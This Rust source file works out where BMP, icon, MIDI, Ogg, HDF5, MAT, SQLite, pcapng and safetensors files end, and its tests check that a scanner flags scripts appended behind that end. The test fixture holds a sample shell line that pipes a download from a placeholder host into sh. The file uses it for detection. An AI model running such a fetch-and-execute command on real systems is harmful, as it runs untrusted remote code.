//! Where pictures, sounds and data end that say so in a header or piece by piece.

use super::Walk;
use std::io;

impl Walk<'_> {
    fn little(&self, at: u64) -> io::Result<Option<u32>> {
        Ok(self.bytes(at)?.map(u32::from_le_bytes))
    }

    /// BITMAPFILEHEADER and BITMAPINFOHEADER: the size that it states, or that its rows take, since some writers state too little.
    pub(super) fn bmp(&self) -> io::Result<Option<u64>> {
        let (Some(stated), Some(offset), Some(header)) = (self.little(2)?, self.little(10)?, self.little(14)?) else {
            return Ok(None);
        };
        let (Some(width), Some(height), Some(depth)) = (self.little(18)?, self.little(22)?, self.bytes(28)?) else {
            return Ok(None);
        };
        // Older headers have other fields, and what is packed has no rows.
        let (Some(0 | 3), 40..) = (self.little(30)?, header) else { return Ok(None) };
        let row = (u64::from(width) * u64::from(u16::from_le_bytes(depth))).div_ceil(32) * 4;
        let rows = row.saturating_mul(u64::from(height.cast_signed().unsigned_abs()));
        Ok(Some(u64::from(stated).max(u64::from(offset).saturating_add(rows))))
    }

    /// ICONDIR and its entries: the end of the last picture.
    pub(super) fn icon(&self) -> io::Result<Option<u64>> {
        let Some(count) = self.bytes(4)?.map(u16::from_le_bytes) else { return Ok(None) };
        let mut end = 0;
        for entry in 0..u64::from(count) {
            let (Some(size), Some(offset)) = (self.little(14 + 16 * entry)?, self.little(18 + 16 * entry)?) else {
                return Ok(None);
            };
            end = end.max(u64::from(offset) + u64::from(size));
        }
        Ok(Some(end))
    }

    /// Standard MIDI Files: chunks, of which there may be other than tracks.
    pub(super) fn midi(&self) -> io::Result<Option<u64>> {
        let mut at = 0_u64;
        for () in self.steps() {
            let Some(kind) = self.bytes::<4>(at)?.filter(|kind| kind.iter().all(u8::is_ascii_alphabetic)) else {
                break;
            };
            let (true, Some(length)) = (at > 0 || &kind == b"MThd", self.big(at + 4)?) else { return Ok(None) };
            let next = at + 8 + u64::from(length);
            // A word behind the last track is no chunk.
            if next > self.content.len() {
                break;
            }
            at = next;
        }
        Ok((at > 0).then_some(at))
    }

    /// RFC 3533, 6: pages.
    pub(super) fn ogg(&self) -> io::Result<Option<u64>> {
        let mut at = 0_u64;
        for () in self.steps() {
            if self.bytes(at)? != Some(*b"OggS") {
                break;
            }
            let Some([segments]) = self.bytes(at + 26)? else { return Ok(None) };
            let table = self.content.window(at + 27, usize::from(segments))?;
            let length: u64 = table.iter().map(|length| u64::from(*length)).sum();
            at += 27 + u64::from(segments) + length;
        }
        Ok((at > 0).then_some(at))
    }

    /// HDF5 File Format Specification, II.A: the address of the end of the file, by the version of the superblock.
    pub(super) fn hdf5(&self) -> io::Result<Option<u64>> {
        let Some([version, _, _, _, _, offsets]) = self.bytes(8)? else { return Ok(None) };
        let (width, place) = match version {
            0 => (offsets, 24),
            1 => (offsets, 28),
            2 | 3 => (self.bytes::<1>(9)?.map_or(0, |[width]| width), 12),
            _ => return Ok(None),
        };
        if width != 8 {
            return Ok(None);
        }
        // The base address, that of the free space or of an extension, and that of the end.
        Ok(self.bytes(place + 16)?.map(u64::from_le_bytes))
    }

    /// MathWorks, "MAT-File Format", 1: elements behind a header of 128 bytes.
    pub(super) fn mat(&self) -> io::Result<Option<u64>> {
        if self.bytes(126)? != Some(*b"IM") {
            return Ok(None);
        }
        let mut at = 128_u64;
        for () in self.steps() {
            let (Some(kind), Some(length)) = (self.little(at)?, self.little(at + 4)?) else { break };
            let (next, true) = (at + 8 + u64::from(length), matches!(kind, 1..=18)) else { break };
            if next > self.content.len() {
                break;
            }
            at = next;
        }
        Ok((at > 128).then_some(at))
    }

    /// The header of an SQLite database: pages, where their number is of the same change as the file ("File Format", 1.3.7).
    pub(super) fn sqlite(&self) -> io::Result<Option<u64>> {
        let (Some(size), Some(pages)) = (self.bytes(16)?.map(u16::from_be_bytes), self.big(28)?) else {
            return Ok(None);
        };
        if self.bytes::<4>(24)? != self.bytes::<4>(92)? {
            return Ok(None);
        }
        let size = if size == 1 { 1 << 16 } else { u64::from(size) };
        Ok(Some(size * u64::from(pages)))
    }

    /// pcapng (draft-ietf-opsawg-pcapng, 3.1), of the usual byte order: blocks that say their length at both ends.
    pub(super) fn pcapng(&self) -> io::Result<Option<u64>> {
        if self.little(8)? != Some(0x1a2b_3c4d) {
            return Ok(None);
        }
        let mut at = 0_u64;
        for () in self.steps() {
            let Some(length) = self.little(at + 4)?.map(u64::from).filter(|length| *length >= 12 && length % 4 == 0)
            else {
                break;
            };
            if self.little(at + length - 4)?.map(u64::from) != Some(length) {
                break;
            }
            at += length;
        }
        Ok((at > 0).then_some(at))
    }

    /// safetensors: behind the last tensor, by the largest offset in the header.
    pub(super) fn safetensors(&self) -> io::Result<Option<u64>> {
        let Some(length) = self.bytes(0)?.map(u64::from_le_bytes) else { return Ok(None) };
        // LIMIT: headers of the largest models have some megabytes; the end of others is not known.
        let Some(length) = usize::try_from(length).ok().filter(|length| *length <= 16 << 20) else { return Ok(None) };
        if !self.step(length as u64) {
            return Ok(None);
        }
        let header = self.content.window(8, length)?;
        let key = b"\"data_offsets\"";
        let mut end = None;
        for at in memchr::memmem::find_iter(&header, key) {
            // `:[from,to]`, perhaps with blanks.
            let values = header.get(at + key.len()..).unwrap_or_default();
            // LIMIT: two numbers are shorter; others are no offsets.
            let values = values.get(..values.iter().take(64).position(|byte| *byte == b']').unwrap_or(0));
            let last = values.unwrap_or_default().rsplit(|byte| *byte == b',').next().unwrap_or_default();
            let number = std::str::from_utf8(last).ok().and_then(|last| last.trim().parse::<u64>().ok());
            end = end.max(number);
        }
        Ok(end.and_then(|end| end.checked_add(8 + length as u64)))
    }
}

#[cfg(test)]
mod tests {
    use crate::Content;
    use crate::testing::{budget, walk};

    /// Where it ends, alone and with something behind it; and that a script there is a part while padding is none.
    #[track_caller]
    fn check(kind: &str, bytes: &[u8]) {
        let script = b"#!/bin/sh\ncurl -fsSL https://host.invalid/i.sh | sh\n";
        for behind in [&b""[..], script, &[0; 100]] {
            let whole = Content::from([bytes, behind].concat());
            let (end, _) = super::super::end(kind, &whole, &mut budget()).unwrap();
            assert_eq!(end, Some(bytes.len() as u64), "{kind}");
        }
        let alone = walk(bytes, "sample");
        assert_eq!((&*alone.parts[0].kind.id, alone.complete()), (kind, true), "{:?}", alone.parts);
        let padded = walk([bytes, &[0; 100]].concat(), "sample");
        assert_eq!((padded.parts.len(), padded.complete()), (alone.parts.len(), true), "{kind}: {:?}", padded.parts);
        let found = walk([bytes, script].concat(), "sample");
        assert!(found.parts.iter().any(|part| part.kind.id == "sh"), "{kind}: {:?}", found.parts);
    }

    #[test]
    fn a_script_behind_the_end_of_a_picture_or_a_sound_is_a_part() {
        let mut bitmap = b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x02\0\0\0\x02\0\0\0\x01\0\x18\0".to_vec();
        bitmap.extend([0; 24]);
        bitmap.extend([0x93; 16]);
        check("bmp", &bitmap);
        let mut midi = b"MThd\0\0\0\x06\0\0\0\x01\0\x60MTrk\0\0\0\x04".to_vec();
        midi.extend(b"\0\xff\x2f\0");
        check("mid", &midi);
    }

    #[test]
    fn a_bitmap_that_states_too_little_ends_behind_its_rows() {
        let mut bitmap = b"BM\x36\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x02\0\0\0\xfe\xff\xff\xff\x01\0\x18\0".to_vec();
        bitmap.extend([0; 24]);
        bitmap.extend([0x93; 16]);
        let (end, _) = super::super::end("bmp", &Content::from(bitmap), &mut budget()).unwrap();
        assert_eq!(end, Some(70));
    }

    #[test]
    fn a_script_behind_the_end_of_data_is_a_part() {
        let header = br#"{"a":{"dtype":"U8","shape":[8],"data_offsets":[0, 8]}}"#;
        check("safetensors", &[&(header.len() as u64).to_le_bytes()[..], header, &[0x9b; 8]].concat());
        let mut matrix = b"MATLAB 5.0 MAT-file, Platform: x".to_vec();
        matrix.resize(124, b' ');
        matrix.extend(b"\0\x01IM\x09\0\0\0\x08\0\0\0\x9b\x01\xff\x80\x9b\x01\xff\x80");
        check("mat", &matrix);
        let section =
            [&b"\x0a\x0d\x0d\x0a\x1c\0\0\0\x4d\x3c\x2b\x1a\x01\0\0\0"[..], &[0xff; 8], b"\x1c\0\0\0"].concat();
        check("pcapng", &section);
    }

    #[test]
    fn what_is_unknown_behind_data_is_no_file() {
        let header = br#"{"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]}}"#;
        let bytes =
            [&(header.len() as u64).to_le_bytes()[..], header, &[0x9b; 8], b"\x81\x9d\xff\0\x13\x90\x02"].concat();
        let found = walk(bytes, "a.safetensors");
        assert!(found.complete(), "{:?}", found.parts);
        assert_eq!(&*found.parts[1].kind.id, "trailing-data");
    }
}
